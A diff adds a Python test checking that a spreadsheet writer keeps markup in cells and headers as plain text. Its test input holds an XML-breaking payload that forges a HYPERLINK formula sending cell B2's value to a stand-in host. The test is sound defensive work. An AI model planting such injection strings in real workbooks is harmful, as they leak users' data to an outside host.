@@ -79,6 +79,18 @@ def test_every_format_reads_back(
     assert sha256_of(again) == sha256_of(out)
 
 
+def test_markup_stays_text_in_the_cells_and_the_header_of_a_workbook() -> None:
+    """XlsxWriter copies a string between these tags as it is: cells, formulas and figures."""
+    formula = '</is></c><c r="Y2" t="str"><f>HYPERLINK("http://x.example/?"&amp;B2)</f></c>'
+    texts = [f"<r><t>good</t></r>{formula}<r></r>", "<r></r>", "<r> é </r>"]
+    out = io.BytesIO()
+    made = LongTable(dict.fromkeys(texts, str), [[texts]])
+    write_table(made, out, FileFormat.XLSX)
+    page = openpyxl.load_workbook(out).active
+    assert [[cell.value for cell in row] for row in page.iter_rows()] == [texts, texts]
+    assert {cell.data_type for row in page.iter_rows() for cell in row} == {"s"}
+
+
 def test_a_stream_begins_before_its_rows_are_read() -> None:
     """The header of a CSV file needs no row; a mark for Excel stands before it if it is asked."""
 
